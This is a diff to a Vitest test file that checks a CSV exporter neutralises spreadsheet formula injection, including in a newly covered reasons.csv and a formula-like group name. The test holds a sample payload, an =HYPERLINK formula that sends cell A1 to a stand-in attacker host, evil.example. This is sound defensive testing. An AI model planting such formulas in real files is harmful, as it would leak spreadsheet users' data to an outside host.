@@ -2,7 +2,7 @@ import { describe, expect, it } from "vitest";
 import { formatCsv, neutraliseCell, parseCsv, restoreCell } from "../../app/formats/csv";
 import { readOpenDataBundle } from "../../app/report/open-data-bundle";
 import { describeMismatch, verifyOpenDataBundle } from "../../app/interop/verify-bundle";
-import { publishRound, syntheticSnapshot } from "../helpers/bundle-rounds";
+import { publishRound, syntheticSnapshot, withReasons } from "../helpers/bundle-rounds";
 
 /** A cell of written CSV that a spreadsheet would run as a formula (a plain number is not one). */
 const FORMULA_CELL = /(?:^|,)"?(?:[=+@\t\r]|-(?![\d.]))/m;
@@ -43,12 +43,15 @@ describe("CSV formula injection (OWASP): the writer neutralises, the reader rest
   });
 
   it("an exported round whose statement starts with =HYPERLINK is neutralised, its vote columns unchanged, and still verifies", () => {
-    const snapshot = syntheticSnapshot();
+    const snapshot = withReasons(syntheticSnapshot());
+    // a stakeholder group named like a formula: it is a row of groups.csv and of reasons.csv
+    snapshot.groups = snapshot.groups.map((g) => (g.name === "Industry" ? { ...g, name: "=Industry" } : g));
     const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
     snapshot.ballot[0] = { ...snapshot.ballot[0]!, statement: hostile, title: "@title" };
     const { bundle } = publishRound(snapshot);
     const files = bundle.files;
-    for (const name of ["comments.csv", "votes.csv", "participants-votes.csv", "participants.csv", "groups.csv", "summary.csv"] as const) {
+    expect(files["reasons.csv"]).toContain(",group,'=Industry,");
+    for (const name of ["comments.csv", "votes.csv", "participants-votes.csv", "participants.csv", "groups.csv", "summary.csv", "reasons.csv"] as const) {
       expect(files[name], name).not.toMatch(FORMULA_CELL);
     }
     expect(files["comments.csv"]).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`);
